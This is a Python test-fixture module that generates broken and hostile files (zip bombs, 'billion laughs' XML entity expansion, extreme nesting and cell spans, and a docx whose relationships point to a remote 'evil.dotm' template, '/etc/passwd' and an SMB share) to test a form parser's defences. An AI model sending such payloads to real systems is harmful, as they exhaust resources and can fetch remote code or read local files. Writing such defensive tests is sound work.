"""Files that strangers send: broken, hollow, endless, or only called documents."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from making import docx, html, sheets, text
from making.docx import archive, package, paragraph
from making.layouts import LAYOUTS

MEGA = 2**20
_PAGE = LAYOUTS["national-2020"].page()
_WHEN = (2023, 1, 15, 9, 0, 0)
_LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10)
)
DOCTYPE = f"<!DOCTYPE a [{_LAUGHS}]>"
"""Ten entities of ten of the one before: 10^9 times the first."""


def form() -> bytes:
    """Return a form that is right."""
    return docx.docx(_PAGE)


def parts_of(data: bytes) -> dict[str, bytes | str]:
    """Return the parts of an archive by name."""
    with zipfile.ZipFile(io.BytesIO(data)) as found:
        return {name: found.read(name) for name in found.namelist()}


def _bomb(name: str, opening: bytes, closing: bytes, size: int) -> bytes:
    """Return an archive of some hundred kB with one part of so many bytes."""
    out = io.BytesIO()
    info = zipfile.ZipInfo(name, _WHEN)
    info.compress_type = zipfile.ZIP_DEFLATED
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made,
        made.open(info, "w") as part,
    ):
        part.write(opening)
        for _ in range(size // MEGA):
            part.write(b" " * MEGA)
        part.write(closing)
    return out.getvalue()


def docx_bomb() -> bytes:
    """Return 300 MB of blanks in a document of some 300 kB."""
    head = b"<w:document xmlns:w='http://schemas.openxmlformats.org/w'><w:body>"
    return _bomb("word/document.xml", head, b"</w:body></w:document>", 300 * MEGA)


def lying_bomb() -> bytes:
    """Return the same bomb with a directory that says it is 1000 bytes."""
    data = bytearray(docx_bomb())
    assert len(data) < MEGA // 2
    at = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 1000)
    return bytes(data)


def xlsx_bomb() -> bytes:
    """Return a workbook whose sheet is 300 MB of blanks."""
    bomb = parts_of(sheets.xlsx(_PAGE))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in bomb.items():
            if name != "xl/worksheets/sheet1.xml":
                made.writestr(name, data)
        with made.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(b"<worksheet><sheetData>")
            for _ in range(300):
                part.write(b" " * MEGA)
            part.write(b"</sheetData></worksheet>")
    return out.getvalue()


def _xml_with_entities(part: bytes | str) -> str:
    xml = part.decode() if isinstance(part, bytes) else part
    head, _, rest = xml.partition("?>")
    if not rest:
        return DOCTYPE + xml
    return f"{head}?>{DOCTYPE}{rest}".replace("政策知晓率", "&l9;", 1)


def docx_laughs() -> bytes:
    """Return a document whose entities stand for 10^9 others."""
    main = "word/document.xml"
    parts = parts_of(form())
    return archive(parts | {main: _xml_with_entities(parts[main])})


def xlsx_laughs() -> bytes:
    """Return a workbook whose texts are entities that stand for 10^9 others."""
    parts = parts_of(sheets.xlsx(_PAGE))
    name = "xl/sharedStrings.xml"
    if name not in parts:
        name = "xl/worksheets/sheet1.xml"
    return archive(parts | {name: _xml_with_entities(parts[name])})


def html_laughs() -> bytes:
    """Return a web page with such entities, which no browser expands."""
    page = html.html(_PAGE).decode()
    return page.replace("<!DOCTYPE html>", DOCTYPE).encode()


def svg_laughs() -> bytes:
    """Return a picture with such entities."""
    return (
        f'<?xml version="1.0"?>{DOCTYPE}'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>'
    ).encode()


def docx_wide_span() -> bytes:
    """Return a document whose total stretches over a million columns."""
    parts = parts_of(form())
    xml = parts["word/document.xml"]
    assert isinstance(xml, bytes)
    wide = xml.replace(b'<w:gridSpan w:val="6"/>', b'<w:gridSpan w:val="1000000"/>')
    assert wide != xml
    return archive(parts | {"word/document.xml": wide})


def html_zero_span() -> bytes:
    """Return a page with cells that go on to the end of their part of the table."""
    page = html.html(_PAGE).decode()
    before, mark, total = page.rpartition("<tr><td colspan=6>")
    assert mark
    zero = before.replace('<td rowspan="12">', '<td rowspan="0">')
    assert zero != before
    return f"{zero}</tbody><tbody>{mark}{total}".encode()


def html_wide_span() -> bytes:
    """Return a page with a cell of a million columns and one of a million rows."""
    page = html.html(_PAGE).decode()
    tall = '<tr><td rowspan="1000000" colspan="1000000">备注</td></tr></tbody>'
    return page.replace("</tbody>", tall).encode()


def docx_deep() -> bytes:
    """Return a document with 100,000 tags inside one another."""
    inner = "<w:smartTag>" * 100_000 + "</w:smartTag>" * 100_000
    return package(f"<w:p>{inner}</w:p>{docx.body(_PAGE)}")


def docx_deep_tables() -> bytes:
    """Return a document with 5,000 tables inside one another."""
    start, end = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    return package(start * 5000 + end * 5000)


def html_deep() -> bytes:
    """Return a web page with 100,000 tags inside one another before its table."""
    page = html.html(_PAGE).decode()
    return page.replace("<body>", "<body>" + "<div>" * 100_000).encode()


def html_deep_tables() -> bytes:
    """Return a web page with 5,000 tables inside one another."""
    return b"<html><body>" + b"<table><tr><td>" * 5000 + b"</body></html>"


def docx_long_text() -> bytes:
    """Return a document with four megabytes of text in one cell, in small runs."""
    runs = docx.run("其中：1、（") * 40_000
    return package(f"<w:p>{runs}</w:p>{docx.body(_PAGE)}")


def long_cell() -> bytes:
    """Return a form with a megabyte of what the patterns of values look at."""
    long = "大于" * 100_000 + "1," * 200_000 + "（" * 50_000 + "%" * 50_000
    page = text.tabs(_PAGE).replace("98.5%", long)
    return page.encode()


def long_line() -> bytes:
    """Return three megabytes of tabs, bars and commas in one line."""
    return "绩效自评表\n".encode() + b"\t|," * MEGA


def many_lines() -> bytes:
    """Return a million rows."""
    return "绩效自评表\n\n一级指标\t三级指标\t指标值\t分值\n".encode() + (
        "产出指标\t巡检\t≥1次\t10\n".encode() * 1_000_000
    )


def many_columns() -> bytes:
    """Return a row of values as wide as a file may be."""
    return "三级指标,指标值,分值\n".encode() + b"1," * MEGA


def xlsx_dimension() -> bytes:
    """Return a workbook that says it fills a whole sheet, with a cell at its end."""
    parts = parts_of(sheets.xlsx(_PAGE))
    name = "xl/worksheets/sheet1.xml"
    xml = parts[name]
    assert isinstance(xml, bytes)
    sheet = xml.decode()
    start = sheet.index('<dimension ref="')
    end = sheet.index('"', start + 17)
    sheet = f'{sheet[:start]}<dimension ref="A1:XFD1048576{sheet[end:]}'
    last = '<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>'
    return archive(parts | {name: sheet.replace("</sheetData>", last)})


def xlsx_wide_merge() -> bytes:
    """Return a workbook with a merge over the whole sheet below its table."""
    parts = parts_of(sheets.xlsx(_PAGE))
    name = "xl/worksheets/sheet1.xml"
    xml = parts[name]
    assert isinstance(xml, bytes)
    wide = b'<mergeCell ref="A60:XFD1048576"/></mergeCells>'
    return archive(parts | {name: xml.replace(b"</mergeCells>", wide)})


def nested_zips() -> bytes:
    """Return archives within archives, a form in the innermost."""
    data = form()
    for depth in range(30):
        data = archive({f"{depth}.zip": data})
    return data


def encrypted_zip() -> bytes:
    """Return a document whose parts are marked as locked with a password."""
    data = bytearray(form())
    at = 0
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def ole(*streams: str) -> bytes:
    """Return a compound file (of old Office, or of one with a password)."""
    size = 512
    names = ["Root Entry", *streams]
    entries = b""
    for number in range(4):
        name = names[number] if number < len(names) else ""
        raw = (name + "\0").encode("utf-16-le") if name else b""
        kind = 0 if not name else 5 if number == 0 else 2
        child = 1 if number == 0 and streams else 0xFFFFFFFF
        right = number + 1 if 0 < number < len(names) - 1 else 0xFFFFFFFF
        entries += struct.pack(
            "<64sHBBIII16sIQQIQ",
            raw,
            len(raw),
            kind,
            1,
            0xFFFFFFFF,
            right,
            child,
            b"",
            0,
            0,
            0,
            0xFFFFFFFE,
            0,
        )
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
    header += struct.pack("<HHHHH6xIIIIIIIII", 62, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096,
                          0xFFFFFFFE, 0, 0xFFFFFFFE, 0)  # fmt: skip
    header += struct.pack("<109I", 0, *([0xFFFFFFFF] * 108))
    fat = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, *([0xFFFFFFFF] * 126))
    return header[:size].ljust(size, b"\0") + fat + entries


def png() -> bytes:
    """Return a small picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
    )


def docx_links() -> bytes:
    """Return a document with a template, a picture and a link elsewhere."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = "".join(
        f'<Relationship Id="x{n}" Type="{kind}/{what}" TargetMode="External" '
        f'Target="{target}"/>'
        for n, (what, target) in enumerate(
            (
                ("attachedTemplate", "http://192.0.2.1/evil.dotm"),
                ("image", "file:///etc/passwd"),
                ("hyperlink", "http://192.0.2.1/"),
                ("oleObject", "//192.0.2.1/share/x"),
            )
        )
    )
    whole = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships">{relations}</Relationships>'
    )
    return archive(parts_of(form()) | {"word/_rels/document.xml.rels": whole})


def docx_macros() -> bytes:
    """Return a document with macros in it."""
    return archive(parts_of(form()) | {"word/vbaProject.bin": ole("VBA")})


def xlsx_macros() -> bytes:
    """Return a workbook with macros and a link to another workbook in it."""
    link = '<externalLink xmlns="http://schemas.openxmlformats.org/x"/>'
    more: dict[str, bytes | str] = {
        "xl/vbaProject.bin": ole("VBA"),
        "xl/externalLinks/externalLink1.xml": link,
    }
    return archive(parts_of(sheets.xlsx(_PAGE)) | more)


READ = "read"
"""What becomes of a file that reads like the form that is right."""
DOUBTED = "doubted"
"""It reads so as far as can be, and says what is in doubt."""

FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "bomb.docx": (docx_bomb, "forms.zip-bomb"),
    "lying-bomb.docx": (lying_bomb, "forms.damaged-docx"),
    "bomb.xlsx": (xlsx_bomb, "forms.zip-bomb"),
    "laughs.docx": (docx_laughs, "forms.doctype"),
    "laughs.xlsx": (xlsx_laughs, "forms.doctype"),
    "laughs.html": (html_laughs, READ),
    "laughs.svg": (svg_laughs, ""),
    "wide-span.docx": (docx_wide_span, DOUBTED),
    "zero-span.html": (html_zero_span, READ),
    "wide-span.html": (html_wide_span, ""),
    "deep.docx": (docx_deep, "forms.too-deep"),
    "deep-tables.docx": (docx_deep_tables, "forms.too-deep"),
    "deep.html": (html_deep, ""),
    "deep-tables.html": (html_deep_tables, ""),
    "long-text.docx": (docx_long_text, READ),
    "long-cell.txt": (long_cell, ""),
    "long-line.txt": (long_line, ""),
    "many-lines.txt": (many_lines, "forms.too-many-lines"),
    "many-columns.csv": (many_columns, ""),
    "dimension.xlsx": (xlsx_dimension, ""),
    "wide-merge.xlsx": (xlsx_wide_merge, ""),
    "nested.docx": (nested_zips, "forms.zip-not-docx"),
    "locked.docx": (encrypted_zip, "forms.encrypted-docx"),
    "locked-ole.docx": (lambda: ole("EncryptionInfo", "EncryptedPackage"), ""),
    "old.doc": (lambda: ole("WordDocument"), ""),
    "picture.docx": (png, "forms.picture-file"),
    "archive.docx": (lambda: archive({"a.txt": "1"}), "forms.zip-not-docx"),
    "cut.docx": (lambda: form()[:-30], "forms.damaged-docx"),
    "half.docx": (lambda: form()[: len(form()) // 2], "forms.damaged-docx"),
    "empty.docx": (lambda: b"", "forms.empty-file"),
    "blank.xlsx": (lambda: b" \n\t ", "forms.empty-file"),
    "noise.docx": (lambda: bytes(range(256)) * 64, "forms.not-text"),
    "links.docx": (docx_links, READ),
    "macros.docm": (docx_macros, READ),
    "macros.xlsm": (xlsx_macros, READ),
    "paragraph.docx": (lambda: package(paragraph("无表")), "forms.no-form"),
}
"""Each file: what makes it, and what becomes of it; blank: any clear error, or READ."""
